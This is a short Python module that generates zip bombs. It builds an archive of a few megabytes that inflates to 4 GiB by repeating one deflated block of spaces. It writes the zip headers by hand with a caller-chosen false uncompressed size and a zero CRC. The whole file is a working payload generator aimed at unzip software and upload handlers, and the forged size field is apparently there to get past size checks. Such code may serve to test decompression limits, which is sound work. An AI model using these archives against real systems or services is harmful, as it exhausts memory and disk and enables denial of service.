"""Zips of some megabytes that would inflate to four gigabytes."""

from __future__ import annotations

import struct
import zlib
from functools import cache

MEGABYTE = 1024 * 1024
PIECE, PIECES = 16 * MEGABYTE, 256
GIGABYTES_4 = PIECE * PIECES
LOCAL, CENTRAL, END = "<4s5H3L2H", "<4s6H3L5H2L", "<4s4H2LH"


@cache
def stream() -> bytes:
    """Deflated blanks that inflate to 4 GiB, made of one piece again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(b" " * PIECE) + packer.flush(zlib.Z_FULL_FLUSH)
    return first * PIECES + packer.flush()


def bomb(name: str, declared: int) -> bytes:
    """A zip with one part that inflates to 4 GiB; its directory says that it is as long as `declared`."""
    packed, called = stream(), name.encode()
    facts = (0, 0, len(packed), declared, len(called))
    head = struct.pack(LOCAL, b"PK\3\4", 20, 0, 8, 0, *facts, 0) + called
    listed = struct.pack(CENTRAL, b"PK\1\2", 20, 20, 0, 8, 0, *facts, 0, 0, 0, 0, 0, 0) + called
    end = struct.pack(END, b"PK\5\6", 0, 0, 1, 1, len(listed), len(head) + len(packed), 0)
    return head + packed + listed + end
